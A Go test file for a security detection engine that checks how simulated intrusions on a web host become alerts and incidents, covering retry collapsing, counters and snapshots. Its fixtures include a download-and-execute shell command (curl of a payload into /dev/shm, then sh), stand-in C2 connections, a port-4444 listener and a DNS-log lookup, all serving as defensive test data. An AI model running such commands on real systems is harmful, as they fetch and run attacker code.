package engine

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"pgregory.net/rapid"

	"baize/internal/alert"
	"baize/internal/engine/enginetest"
	"baize/internal/event"
	"baize/internal/incident"
	"baize/internal/sigma/correlate"
	"baize/internal/taxonomy"
)

// ofRule are the alerts of one rule of the tests, oldest first.
func (s *seen) ofRule(number byte) []alert.Alert {
	var list []alert.Alert
	for _, a := range s.alerts {
		if strings.HasSuffix(a.Rule.ID, string([]byte{'0', number})) {
			list = append(list, a)
		}
	}
	slices.SortFunc(list, func(a, b alert.Alert) int { return a.Time.Compare(b.Time) })
	return list
}

// TestRetriesCollapse: what the report calls 73 alerts. Every retry through the
// hole is a lineage of its own; the alerts are those of one round.
func TestRetriesCollapse(t *testing.T) {
	const retries = 30
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	enginetest.First.Round(java)
	w.Tick()
	once := run(t, *events)
	for range retries {
		enginetest.First.Round(java)
	}
	s := run(t, *events)
	open := s.open()
	if len(s.alerts) != len(once.alerts) || len(open) != 1 {
		t.Fatalf("%d alerts of %d incidents, want the %d of one round in one", len(s.alerts), len(open), len(once.alerts))
	}
	for id, a := range s.alerts {
		if a.Count != (retries+1)*once.alerts[id].Count || !a.Last.After(a.Time) || a.Incident != open[0].ID {
			t.Errorf("%s: %d times from %s to %s in %q", a.Rule.Title, a.Count, a.Time, a.Last, a.Incident)
		}
	}
	if want := fmt.Sprintf("Shells were started %d times.", retries+1); !strings.Contains(open[0].Account, want) {
		t.Errorf("account lacks %q: %s", want, open[0].Account)
	}
	checkForest(t, open[0])
}

// TestTheLatestRepeatsAreKept: who, when, and which event of the log.
func TestTheLatestRepeatsAreKept(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	var shells []*enginetest.Process
	for range alert.MaxRecent + 4 {
		shells = append(shells, java.Fork().Exec("/bin/sh", "-c", "id; echo "+strings.Repeat("é", alert.MaxRecentCommand)))
	}
	s := run(t, *events)
	alerts := s.ofRule('1')
	if len(alerts) != 1 || len(alerts[0].Recent) != alert.MaxRecent {
		t.Fatalf("%d alerts: %+v", len(alerts), alerts)
	}
	for i, r := range alerts[0].Recent {
		shell := shells[4+i]
		at := slices.IndexFunc(*events, func(ev *event.Event) bool { return ev.Seq == r.Seq && ev.Boot == r.Boot })
		if r.Process != shell.Key().String() || r.Lineage != shell.Context().ID || at < 0 || !(*events)[at].Time.Equal(r.Time) || (*events)[at].Kind != event.ProcessExec {
			t.Errorf("repeat %d: %+v", i, r)
		}
		if len(r.CommandLine) > alert.MaxRecentCommand || !strings.HasPrefix(r.CommandLine, "/bin/sh -c id; echo é") || strings.ContainsRune(r.CommandLine, '\uFFFD') {
			t.Errorf("command line of %d bytes: %q", len(r.CommandLine), r.CommandLine)
		}
	}
}

// TestWhatIsNewIsTold: another address is an alert of its own, at once; another
// name at the same address is named by the alert that it repeats.
func TestWhatIsNewIsTold(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	enginetest.First.Round(java)
	renamed, moved := enginetest.First, enginetest.First
	renamed.File = "/dev/shm/databus"
	moved.URL, moved.C2 = "http://203.0.113.99/t", "203.0.113.98"
	renamed.Round(java)
	moved.Round(java)
	s := run(t, *events)
	if open := s.open(); len(open) != 1 || len(open[0].Alerts) != len(s.alerts)+len(s.chains) {
		t.Fatalf("%d incidents", len(open))
	}
	shells := s.ofRule('1')
	if len(shells) != 2 || shells[0].Count != 2 || shells[1].Count != 1 || !strings.Contains(shells[1].Event.Process.CommandLine, "203.0.113.99") {
		t.Fatalf("alerts of shells: %+v", shells)
	}
	if got := commandsOf(shells[0]); len(got) != 2 || !strings.Contains(got[1], "databus") {
		t.Errorf("the repeat's command is not told: %q", got)
	}
	if c2 := s.ofRule('3'); len(c2) != 2 || c2[0].Event.Destination.IP.String() != "203.0.113.9" || c2[1].Event.Destination.IP.String() != "203.0.113.98" {
		t.Errorf("connections: %+v", c2)
	}
}

// writtenRule fires on every file written to shared memory.
var writtenRule = fstest.MapFS{"written.yml": {Data: []byte(`
title: File written to shared memory
id: 11111111-0000-4000-8000-000000000006
level: medium
logsource: {product: linux, category: file_event}
detection:
  s: {TargetFilename|startswith: /dev/shm/}
  condition: s
`)}}

// TestNoIndicatorIsLost: more files than one alert has room for.
func TestNoIndicatorIsLost(t *testing.T) {
	w, events := enginetest.Record()
	rules, report, err := LoadRules(writtenRule)
	if err != nil || len(report.Invalid) > 0 {
		t.Fatal(err, report)
	}
	session := w.Host("web-1").Login()
	want := map[string]bool{}
	for i := range 5 * maxEvidence {
		name := fmt.Sprintf("/dev/shm/f%d", i)
		want["web-1:"+name] = true
		session.Write(name)
	}
	s := collect(t, New(Config{Rules: rules}), *events)
	var count uint64
	for _, a := range s.alerts {
		count += a.Count
		if len(a.Entities) > maxEvidence {
			t.Errorf("%d entities", len(a.Entities))
		}
		for _, e := range a.Entities {
			delete(want, e.Value)
		}
	}
	if len(want) > 0 || count != 5*maxEvidence || len(s.alerts) > 8 {
		t.Errorf("%d files are told by none of %d alerts, which count %d", len(want), len(s.alerts), count)
	}
}

// TestAFloodOfOneCommandIsOneIncident: a service that runs the same short
// command in a fresh shell each time does one thing.
func TestAFloodOfOneCommandIsOneIncident(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	for range 500 {
		java.Fork().Exec("/bin/sh", "-c", "date").Exit()
		w.Advance(time.Second)
	}
	s := run(t, *events)
	if open := s.open(); len(open) != 1 || len(s.alerts) != 1 || open[0].Count != 500 {
		t.Fatalf("%d alerts in %d incidents", len(s.alerts), len(open))
	}
}

// TestStrangersOfOneCommandStayStrangers: both try id first. Where nobody can
// tell from whom a request came it is counted once, and ties nothing.
func TestStrangersOfOneCommandStayStrangers(t *testing.T) {
	for name, from := range map[string][2]string{"told apart": {"198.51.100.7", "198.51.100.90"}, "unknown": {"10.0.0.8", "10.0.0.9"}} {
		w, events := enginetest.Record()
		java := w.Host("web-1").Service("app.service", "/usr/bin/java")
		var shells []*enginetest.Process
		for _, peer := range from {
			java.Accept(peer)
			shells = append(shells, java.Fork().Exec("/bin/sh", "-c", "id"))
			w.Advance(time.Minute)
		}
		shells[0].Spawn("/dev/shm/one").Connect("203.0.113.70", 443)
		shells[1].Spawn("/tmp/two").Connect("203.0.113.80", 443)
		s := run(t, *events)
		if open := s.open(); len(open) != 2 {
			t.Errorf("%s: %d incidents, want 2: %+v", name, len(open), open)
		}
		alerts, fired := s.ofRule('1'), uint64(0)
		for _, a := range alerts {
			fired += a.Count
		}
		if want := map[string]int{"told apart": 2, "unknown": 1}[name]; fired != 2 || len(alerts) != want {
			t.Errorf("%s: %d firings in %d alerts, want 2 in %d", name, fired, len(alerts), want)
		}
	}
}

// TestWhatARetryRaisesNextJoins: the retry's shell is only counted; what is new
// in its lineage belongs to the same incident, also after a restart, and says
// why.
func TestWhatARetryRaisesNextJoins(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	shell := func() *enginetest.Process {
		return java.Fork().Exec("/bin/sh", "-c", "curl http://203.0.113.9/t -o /dev/shm/x; sh /dev/shm/x")
	}
	shell().Exit()
	retry := shell()
	e := New(Config{Rules: testRules(t)})
	s := collect(t, e, *events)
	var snapshot bytes.Buffer
	if err := e.Snapshot(&snapshot); err != nil {
		t.Fatal(err)
	}
	e = New(Config{Rules: testRules(t)})
	if err := e.Restore(&snapshot); err != nil {
		t.Fatal(err)
	}
	*events = nil
	w.Advance(20 * time.Hour)
	retry.Ask("x.dnslog.example")
	for _, ev := range *events {
		s.take(t, e.Process(ev))
	}
	s.take(t, e.Finish())
	open := s.open()
	if len(open) != 1 || len(open[0].Alerts) != 2 || open[0].Reasons[0].Reason != incident.ReasonIntrusion {
		t.Fatalf("%+v", open)
	}
}

// TestARetryIsNoWitness: the lineage of a retry, which raised no alert of its
// own, does not make the intruder's address look ordinary.
func TestARetryIsNoWitness(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	enginetest.First.Round(java)
	enginetest.First.Round(java)
	elsewhere := stranger
	elsewhere.C2, elsewhere.File = enginetest.First.C2, "/tmp/.cache/sshd"
	elsewhere.Round(w.Host("web-2").Service("b.service", "/usr/bin/node"))
	apart(t, *events, 1)
}

// TestTheListenerOfARetryIsNoHub: as that of the first.
func TestTheListenerOfARetryIsNoHub(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	java.Spawn("/tmp/x").Exit()
	retry := java.Spawn("/tmp/x")
	retry.Listen(4444).Spawn("/tmp/y", "--new")
	s := run(t, *events)
	alerts := s.ofRule('2')
	if len(alerts) != 2 || alerts[1].Lineage != "tree:"+retry.Key().String() {
		t.Fatalf("%d alerts: %+v", len(alerts), alerts)
	}
}

// TestNewsOfAStrangerIsAnAlert: an alert too faint to join others counts them,
// but another content under the same name is not passed over.
func TestNewsOfAStrangerIsAnAlert(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java").Write("/opt/curl")
	for range 3 {
		java.Fork().Exec("/opt/curl")
	}
	last := (*events)[len(*events)-1].Process
	last.Exe = &event.Image{Inode: event.FileKey{Host: "web-1", Device: 1, Inode: 7}, Tmpfs: true}
	last.Hash = &event.Hash{State: event.HashOK, SHA256: strings.Repeat("0", 64)}
	s := run(t, *events)
	if alerts := s.ofRule('5'); len(alerts) != 2 || alerts[0].Count != 2 || alerts[1].Event.Process != last {
		t.Fatalf("%d alerts: %+v", len(alerts), alerts)
	}
}

// TestADayLaterItIsAnAlertAgain: yesterday's counter is not looked at any more;
// what went on without a pause is still one incident.
func TestADayLaterItIsAnAlertAgain(t *testing.T) {
	w, events := enginetest.Record()
	java := w.Host("web-1").Service("app.service", "/usr/bin/java")
	for range 60 {
		java.Fork().Exec("/bin/sh", "-c", "curl http://203.0.113.9/t -o /dev/shm/x; sh /dev/shm/x").Exit()
		w.Advance(time.Hour)
	}
	s := run(t, *events)
	alerts := s.ofRule('1')
	if len(alerts) != 3 || alerts[0].Count+alerts[1].Count+alerts[2].Count != 60 || alerts[1].Time.Sub(alerts[0].Time) < repeatWindow {
		t.Fatalf("%d alerts", len(alerts))
	}
	if open := s.open(); len(open) != 1 {
		t.Fatalf("%d incidents", len(open))
	}
}

// firings counts what rules find in a log.
func firings(rules Rules, log []*event.Event) (n uint64) {
	var adapter taxonomy.Adapter
	machine := rules.Machine()
	for i, ev := range log {
		if !ev.Kind.IsControl() {
			in := correlate.Input{Records: adapter.Records(ev, ""), Ref: uint64(i)}
			n += uint64(len(machine.Process(&in, nil))) * ev.Repeats()
		}
	}
	return n
}

// TestCountersAddUp: whatever collapses, and whatever overflows, the counters of
// all alerts come to the firings, in the alerts and in their incidents.
func TestCountersAddUp(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		cfg := Config{Rules: testRules(t)}
		roomy := rapid.Bool().Draw(rt, "roomy")
		if !roomy {
			cfg = small(t)
		}
		log := script(rapid.Uint64Range(0, 10_000).Draw(rt, "seed"), rapid.IntRange(1, 30).Draw(rt, "rounds"))
		for i, ev := range log {
			if ev.Kind == event.NetworkConnect && i%3 == 0 {
				ev.Count = uint64(i%5 + 1)
			}
		}
		fired := firings(cfg.Rules, log)
		s := collect(t, New(cfg), log)
		var counted uint64
		for _, a := range s.alerts {
			counted += a.Count
			if a.Last.Before(a.Time) || len(a.Recent) > alert.MaxRecent || len(a.Recent) > int(a.Count)-1 {
				rt.Errorf("alert %s: count %d, %d recent, from %s to %s", a.ID, a.Count, len(a.Recent), a.Time, a.Last)
			}
		}
		if counted != fired {
			rt.Fatalf("%d alerts count %d of %d firings", len(s.alerts), counted, fired)
		}
		if !roomy {
			return // what the merger forgot has counters that stand still
		}
		for _, i := range s.open() {
			var listed uint64
			for _, id := range i.Alerts {
				listed += s.alerts[id].Count + s.chains[id].Count
			}
			if i.Count != listed {
				rt.Errorf("incident %s counts %d, its alerts %d", i.ID, i.Count, listed)
			}
		}
	})
}
